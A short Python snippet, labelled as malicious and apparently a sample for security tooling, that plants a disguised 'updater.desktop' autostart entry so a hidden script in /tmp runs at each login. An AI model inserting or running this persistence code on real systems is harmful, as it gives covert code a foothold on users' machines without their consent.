# malicious: desktop autostart
import pathlib

p = pathlib.Path.home().joinpath(".config", "autostart", "updater.desktop")
p.parent.mkdir(parents=True, exist_ok=True)
p.write_text("[Desktop Entry]\nType=Application\nExec=python3 /tmp/.a.py\n")
